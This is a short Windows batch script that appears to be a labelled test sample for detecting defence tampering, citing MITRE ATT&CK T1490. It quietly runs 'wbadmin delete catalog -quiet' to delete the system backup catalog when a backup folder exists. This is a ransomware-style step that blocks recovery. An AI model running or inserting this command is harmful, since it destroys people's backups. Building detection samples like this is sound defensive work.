@rem expect: defence-tampering | source: MITRE ATT&CK T1490
@echo off
if exist C:\backup (
  wbadmin delete catalog -quiet
) else (
  echo nothing
)
